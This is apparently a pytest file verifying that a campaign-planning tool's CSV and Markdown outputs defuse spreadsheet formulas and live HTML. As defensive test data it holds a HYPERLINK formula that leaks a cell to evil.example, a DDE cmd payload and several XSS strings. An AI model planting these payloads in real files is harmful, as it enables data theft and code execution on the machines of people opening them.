"""What the tool writes is safe to open: CSV cells that a spreadsheet would run as formulas are neutralised
(OWASP: a leading '), and Markdown carries no live HTML and links only http(s) URLs. JSON keeps the text
exactly as it was."""

from __future__ import annotations

import csv
import io
import json

import pytest

from planner.drafts import DraftRecord, Failure
from planner.markup import md_link, md_text
from planner.output import safe_cell, to_csv, to_jsonl, to_markdown
from planner.profile import Profile
from planner.stages import Stage


def rendered(markdown: str) -> str:
    """The HTML a CommonMark viewer (with GFM tables, raw HTML allowed) makes of it."""
    from markdown_it import MarkdownIt

    return str(MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown))


def assert_inert(markdown: str) -> None:
    html = rendered(markdown).lower()
    for live in ("<img src=x", "<script", "<b>", 'href="javascript', 'href="data'):
        assert live not in html, (live, html)


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "=cmd|' /C calc'!A0"])
def test_formula_starts_get_a_leading_quote(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["plain", "", "a=b", " =x", "'quoted", "50% off"])
def test_other_cells_are_unchanged(text: str) -> None:
    assert safe_cell(text) == text


def _record(text: str, business: str = "paws") -> DraftRecord:
    return DraftRecord(
        id=f"{business}.aware.search_ad.v1",
        business=business,
        stage=Stage.aware,
        asset_type="search_ad",
        variant=1,
        fields={"headline": text},
        text=text,
        markdown=f"**Headline:** {text}\n",
        sources=[{"id": "s", "source": "<b>aware.md</b>", "section": "Goal"}],
        failures=[Failure("placeholders", "found <x>")],
        model="offline",
        kpi="-reach",
    )


def test_campaign_csv_neutralises_formulas_and_json_keeps_the_text() -> None:
    record = _record(HOSTILE, business="=evil")
    rows = list(csv.reader(io.StringIO(to_csv([record]))))
    cells = dict(zip(rows[0], rows[1], strict=True))
    assert cells["text"] == "'" + HOSTILE and cells["id"] == "'=evil.aware.search_ad.v1"
    assert cells["kpi"] == "'-reach"
    assert json.loads(to_jsonl([record]))["text"] == HOSTILE


def test_scorecard_csv_neutralises_formulas(paws: Profile) -> None:
    from planner.audit import scorecard, scorecard_csv

    rows = scorecard(paws)
    hostile = [type(r)(r.stage, r.kpi, r.measure, "@SUM(1)", target="=1+1", actual="+5") for r in rows]
    parsed = list(csv.reader(io.StringIO(scorecard_csv(hostile))))
    assert parsed[1][4:] == ["'@SUM(1)", "'=1+1", "'+5"]


def test_markdown_text_has_no_live_html() -> None:
    assert md_text("<img src=x onerror=alert(1)>") == "&lt;img src=x onerror=alert(1)&gt;"
    assert md_text("<script>alert(1)</script>") == "&lt;script&gt;alert(1)&lt;/script&gt;"
    assert md_text("Paws & Suds: 5 > 3") == "Paws & Suds: 5 &gt; 3"


@pytest.mark.parametrize(
    "text",
    [
        "[click](javascript:alert(1))",
        "[click]( javascript:alert(1))",
        "[click](JaVaScRiPt:alert(1))",
        "[click](data:text/html,<script>)",
        "[ref]: javascript:alert(1)",
        "<javascript:alert(1)>",
    ],
)
def test_markdown_text_links_nothing_but_http(text: str) -> None:
    md = md_text(text)
    assert "](javascript" not in md.lower() and "](data" not in md.lower()
    assert not md.lstrip().startswith("[ref]:") and "<javascript" not in md
    assert "href" not in rendered(md + "\n\n[ref]")


def test_http_links_in_text_still_work() -> None:
    assert md_text("[site](https://paws.example/book)") == "[site](https://paws.example/book)"


def test_md_link_links_only_http() -> None:
    assert md_link("page", "https://paws.example/a b") == "[page](https://paws.example/a%20b)"
    assert md_link("page", "javascript:alert(1)") == "page (`javascript:alert(1)`)"
    assert md_link("page", "https://x.example/)<script>") == "[page](https://x.example/%29%3Cscript%3E)"


def test_campaign_markdown_escapes_user_text(paws: Profile) -> None:
    hostile = paws.model_copy(
        update={"business": paws.business.model_copy(update={"name": "<script>alert(1)</script>"})}
    )
    md = to_markdown(hostile, [_record("<img src=x onerror=alert(1)> [x](javascript:alert(1))")])
    assert "<script>" not in md and "<img" not in md and "](javascript" not in md
    assert_inert(md)
    assert "&lt;b&gt;aware.md&lt;/b&gt;" in md and "found &lt;x&gt;" in md
    assert "<sub>Grounded on:" in md  # the tool's own markup stays


def test_audit_markdown_escapes_ids_urls_and_reasons(paws: Profile) -> None:
    from planner.audit import InputAsset, audit_assets
    from planner.audit import to_markdown as audit_md
    from planner.classify import get_classifier

    assets = [
        InputAsset("<img src=x onerror=alert(1)>", "Book a calm groom.", "javascript:alert(1)"),
        InputAsset("x`<script>alert(1)</script>`", "Leave us a review.", "https://paws.example/r"),
    ]
    md = audit_md(audit_assets(paws, assets, get_classifier(), "<b>in</b>", ()))
    assert_inert(md)
    assert 'href="https://paws.example/r"' in rendered(md)
